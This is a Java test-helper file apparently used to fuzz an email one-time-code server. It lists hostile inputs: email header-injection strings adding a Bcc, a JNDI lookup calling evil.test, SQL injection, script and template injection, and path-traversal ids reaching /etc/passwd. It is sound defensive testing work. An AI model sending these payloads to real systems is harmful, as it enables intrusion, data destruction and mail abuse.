package io.otpgate.server;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The hostile strings {@link FuzzTest} puts into fields, ids and bodies, and the little JSON
 * writer it needs to put them there byte for byte (lone surrogates as {@code \ud800} escapes,
 * which no JSON library would write on purpose).
 */
final class HostileValues {

    private HostileValues() {}

    /** Header injection: line breaks in every spelling, encoded breaks, and address-list syntax. */
    static final List<String> INJECTION = List.of(
            "\r",
            "\n",
            "\r\n",
            "\n\r",
            "\u0000",
            "\u0085",
            "\u2028",
            "\u2029",
            "\u000B",
            "\u000C",
            "\t",
            "\u007F",
            "\u009B",
            "\u001B[31m",
            "\u760D",
            "\u760A",
            "\u560D\u560A",
            "%0d%0a",
            "%0D%0A",
            "%00",
            "%E5%98%8D%E5%98%8A",
            "=?utf-8?q?=0D=0A?=",
            "=?utf-8?b?DQpCY2M6IGV2ZUBldmlsLnRlc3Q=?=",
            "\r\nBcc: eve@evil.test",
            "\nBcc: eve@evil.test",
            "\r\n\r\nbody",
            "%0d%0aBcc:%20eve@evil.test",
            "\u760D\u760ABcc: eve@evil.test",
            "\u2028Bcc: eve@evil.test",
            ", eve@evil.test",
            "; eve@evil.test",
            "<a@b>c@d",
            "x:a@b;",
            "Eve <eve@evil.test>",
            "\"Eve\" <eve@evil.test>",
            "eve@evil.test (comment)",
            "@evil.test:",
            "\\r\\n",
            "&#13;&#10;",
            "\u00A0",
            "${jndi:ldap://evil.test/a}",
            "'; DROP TABLE verifications; --",
            "<script>alert(1)</script>",
            "{{7*7}}");

    /** Unicode that renders oddly, normalises surprisingly or is not Unicode at all. */
    static final List<String> ODD_UNICODE = List.of(
            "\u202E",
            "\u202D",
            "\u2066",
            "\u061C",
            "\u200D",
            "\u200C",
            "\u200B",
            "\uFEFF",
            "\u2060",
            "\uD83D\uDE00",
            "\uD83D\uDC69\u200D\uD83D\uDCBB",
            "\uD83C\uDDFA\uD83C\uDDF8",
            "\uD800",
            "\uDFFF",
            "\uDC00\uD800",
            "\uDBFF\uDFFF",
            "\uFF20",
            "\uFF0E",
            "\u3002",
            "\u0430",
            "\u212A",
            "\u0131",
            "\u0130",
            "e\u0301",
            "\u0301",
            "\uFFFF",
            "\uFFFE",
            "\uFFFD",
            "\u3000",
            "\u1680",
            "\uFDD0",
            "\u0600",
            "\uD834\uDD1E",
            "\u00DF",
            "\uFB01");

    /** Whole values for the email field that are never one bare addr-spec: always {@code invalid_email}. */
    static final List<String> NOT_AN_ADDRESS = List.of(
            "ada@example.com\r\nBcc: eve@evil.test",
            "ada@example.com\nBcc: eve@evil.test",
            "ada@example.com\r\n",
            "ada@example.com, eve@evil.test",
            "ada@example.com;eve@evil.test",
            "ada@example.com eve@evil.test",
            "<ada@example.com>",
            "<a@b.com>c@d.com",
            "x:a@b.com;",
            "undisclosed-recipients:;",
            "Eve <eve@evil.test>",
            "\"Eve\" <eve@evil.test>",
            "ada@example.com (Ada)",
            "(Ada) ada@example.com",
            "@relay.test:ada@example.com",
            "\"a@b\"@example.com",
            "\"ada\"@example.com",
            "ada@[127.0.0.1]",
            "ada@[IPv6:::1]",
            "ada@localhost",
            "ada",
            "@example.com",
            "ada@",
            "@",
            "ada@@example.com",
            "ada@example@com.test",
            "ada..x@example.com",
            ".ada@example.com",
            "ada.@example.com",
            "ada@example..com",
            "ada@.example.com",
            "ada@-example.com",
            "ada@exa_mple.com",
            "ada\u0000@example.com",
            "ada@example.com\u0000",
            "ada@example.com\u0085",
            "ada@example.com\u2028eve@evil.test",
            "ada\u2029@example.com",
            "ada\uFF20example.com",
            "\u00E1da@example.com",
            "ada\u202E@example.com",
            "ada\u200D@example.com",
            "\uD800@example.com",
            "ada@exa\uD800mple.com",
            "ada@exa\u202Emple.com",
            "ada@exa\uD83D\uDE00mple.com",
            "ada@exa mple.com",
            "ada@exa\tmple.com",
            "ada@example.com%0d%0aBcc:eve@evil.test",
            "ada@example.com=?utf-8?q?=0D=0A?=",
            "a".repeat(65) + "@example.com",
            "ada@" + "a".repeat(64) + ".com",
            "a".repeat(64) + "@" + ("b".repeat(63) + ".").repeat(3) + "com",
            "",
            " ",
            "\u3000",
            "null",
            "ada@example.com\\",
            "ada\\@example.com",
            "ada@example.com/",
            "mailto:ada@example.com");

    /** Ids with path tricks, as they appear in the URL (already percent-encoded where needed). */
    static List<String> pathIds(String validId) {
        List<String> ids = new ArrayList<>(List.of(
                "..",
                "../",
                "..%2F",
                "%2e%2e%2f",
                "%2E%2E%2F",
                "..%2F..%2Fetc%2Fpasswd",
                "%2e%2e%5c",
                "..%5C",
                "%252e%252e%252f",
                "%00",
                validId + "%00",
                "%0d%0a",
                validId + "%0d%0aX-Evil:%201",
                "%20" + validId,
                validId + "%20",
                "%09" + validId,
                "ver_",
                "ver",
                "VER_" + validId.substring(4),
                validId.toUpperCase(java.util.Locale.ROOT),
                "ver_" + "i".repeat(26),
                "ver_" + "l".repeat(26),
                "ver_" + "o".repeat(26),
                "ver_" + "u".repeat(26),
                "ver_" + "_".repeat(26),
                "ver_" + "-".repeat(26),
                "ver_" + "%21".repeat(26),
                "ver_" + "0".repeat(25),
                "ver_" + "0".repeat(27),
                validId + "x",
                validId.substring(0, 29),
                "ver_" + "%C3%A9".repeat(26),
                "ver_" + "%EF%BC%90".repeat(26),
                "%E2%80%AE" + validId,
                validId + "%E2%80%8D",
                "%F0%9F%98%80",
                "%FF%FE",
                "%C0%AE%C0%AE%C0%AF",
                "%ED%A0%80",
                "%",
                "%zz",
                "%2",
                ";jsessionid=1",
                validId + ";x=1",
                validId + "?x=../../",
                validId + "?%00",
                validId + "#frag",
                "a".repeat(2_000),
                "ver_" + "0".repeat(5_000),
                "%25",
                "%3F",
                "%23",
                "%2F",
                "null",
                "undefined",
                "0",
                "-1",
                "*",
                "~",
                "ver_0000000000000000000000000%E2%80%8B"));
        return ids;
    }

    /** Non-string JSON for fields that must be strings. */
    static final List<String> WRONG_TYPES = List.of(
            "42",
            "-1",
            "0",
            "1.5",
            "1e400",
            "-0",
            "12345678901234567890123456789",
            "true",
            "false",
            "[]",
            "[\"ada@example.com\"]",
            "[[]]",
            "{}",
            "{\"$ne\":null}",
            "{\"value\":\"ada@example.com\"}",
            "[null]",
            "[{}]");

    static boolean hasControl(String s) {
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c < 0x20 || c == 0x7F || (c >= 0x80 && c <= 0x9F) || c == '\u2028' || c == '\u2029') {
                return true;
            }
        }
        return false;
    }

    /**
     * A JSON string literal. Quotes, backslashes and control characters are always escaped, and so
     * are unpaired surrogates (there is no UTF-8 for them); other non-ASCII is escaped only when
     * {@code asciiOnly}, else sent as UTF-8.
     */
    static String jsonString(String s, boolean asciiOnly) {
        StringBuilder out = new StringBuilder(s.length() + 2).append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            boolean pairedHigh =
                    Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1));
            boolean pairedLow = Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(s.charAt(i - 1));
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20
                    || c == 0x7F
                    || (asciiOnly && c > 0x7E)
                    || (Character.isSurrogate(c) && !pairedHigh && !pairedLow)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }

    /** A JSON object from alternating keys and raw JSON values (already literals). */
    static String object(String... keysAndRawValues) {
        StringBuilder out = new StringBuilder("{");
        for (int i = 0; i < keysAndRawValues.length; i += 2) {
            out.append(i == 0 ? "" : ",")
                    .append(jsonString(keysAndRawValues[i], true))
                    .append(':')
                    .append(keysAndRawValues[i + 1]);
        }
        return out.append('}').toString();
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    /** Bytes for a log line: printable ASCII as is, everything else escaped, long runs cut. */
    static String printable(byte[] bytes, int max) {
        StringBuilder out = new StringBuilder();
        int shown = Math.min(bytes.length, max);
        for (int i = 0; i < shown; i++) {
            int b = bytes[i] & 0xFF;
            if (b == '\\') {
                out.append("\\\\");
            } else if (b >= 0x20 && b < 0x7F) {
                out.append((char) b);
            } else if (b == '\r') {
                out.append("\\r");
            } else if (b == '\n') {
                out.append("\\n");
            } else {
                out.append(String.format("\\x%02x", b));
            }
        }
        if (shown < bytes.length) {
            out.append("…(").append(bytes.length).append(" bytes in all)");
        }
        return out.toString();
    }
}
